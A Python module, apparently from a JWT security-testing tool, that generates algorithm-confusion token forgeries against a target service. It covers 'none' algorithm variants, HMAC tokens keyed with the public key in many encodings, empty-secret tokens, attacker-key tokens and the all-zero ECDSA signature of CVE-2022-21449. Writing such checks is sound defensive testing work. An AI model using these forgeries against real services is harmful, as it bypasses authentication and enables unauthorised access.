"""Algorithm confusion: the token's header says how it is to be checked, and the attacker wrote the header."""

from functools import partial
from typing import Any, Final

from pillion.attack import jose
from pillion.attack.bearing import Forge, by_token, good_token
from pillion.attack.outcome import Attack, CannotBeTriedError, Family
from pillion.attack.target import Target

_NONE: Final = "RFC 8725, section 2.1; CVE-2015-9235"
_HMAC: Final = "RFC 8725, section 2.1; CVE-2016-5431"
_CURVES: Final = "RFC 8725, section 3.1"


def _header(target: Target, alg: Any) -> dict[str, Any]:
    return {**jose.header(target.token), "alg": alg}


def _unsigned(target: Target, alg: Any) -> str:
    return f"{jose.unsigned(_header(target, alg), jose.fresh(target.token))}."


def _keeping_a_signature(target: Target) -> str:
    signature = target.token.rpartition(".")[2]
    return f"{jose.unsigned(_header(target, 'none'), jose.fresh(target.token))}.{signature}"


def _without_an_algorithm(target: Target) -> str:
    header = _header(target, "")
    del header["alg"]
    return f"{jose.unsigned(header, jose.fresh(target.token))}."


def _keyed(target: Target, alg: str, spelling: str) -> str:
    secrets = jose.spellings(target.key)
    if spelling not in secrets:
        raise CannotBeTriedError(f"the mesh's key has no {spelling}: it signs by {target.key['alg']}")
    return jose.keyed(_header(target, alg), jose.fresh(target.token), secrets[spelling])


def _empty_secret(target: Target) -> str:
    return jose.keyed(_header(target, "HS256"), jose.fresh(target.token), b"")


def _by_own_key(target: Target, alg: str) -> str:
    return jose.signed(_header(target, alg), jose.fresh(target.token))


def _all_zero(target: Target) -> str:
    """Write the signature (0, 0), which an ECDSA check without a look at the range takes for good."""
    text = jose.unsigned(_header(target, "ES256"), jose.fresh(target.token))
    return f"{text}.{jose.encoded(bytes(64))}"


def _attacks() -> tuple[Attack, ...]:
    none: dict[str, Forge] = {
        f"alg {alg!r}": partial(_unsigned, alg=alg) for alg in ("none", "None", "NONE", "nOnE", "", None)
    }
    none |= {"no alg": _without_an_algorithm, "alg none with a signature": _keeping_a_signature}
    hmac = {
        f"{alg} by the public key as {spelling}": partial(_keyed, alg=alg, spelling=spelling)
        for alg, spelling in (
            ("HS256", "PEM"),
            ("HS384", "PEM"),
            ("HS512", "PEM"),
            ("HS256", "PEM without its last line end"),
            ("HS256", "DER"),
            ("HS256", "PKCS 1 PEM"),
            ("HS256", "JWK"),
            ("HS256", "modulus"),
            ("HS256", "modulus in base64url"),
            ("HS256", "kid"),
        )
    }
    curves = {
        f"{alg} by a key of our own": partial(_by_own_key, alg=alg)
        for alg in ("ES256", "ES384", "ES512", "ES256K", "PS256", "RS384", "RS512", "EdDSA")
    }
    return (
        *(
            by_token(name, _NONE, "an unsigned token, with the claims of a good one", f)
            for name, f in none.items()
        ),
        *(by_token(name, _HMAC, "a token signed by what everybody knows", f) for name, f in hmac.items()),
        by_token(
            "HS256 by an empty secret", "RFC 7518, section 3.2", "a token signed by nothing", _empty_secret
        ),
        *(
            by_token(name, _CURVES, "a token of another algorithm, under the mesh's kid", f)
            for name, f in curves.items()
        ),
        by_token("ES256 with a signature of zeros", "CVE-2022-21449", "the signature (0, 0)", _all_zero),
    )


FAMILY: Final = Family("algorithm confusion", good_token, _attacks())
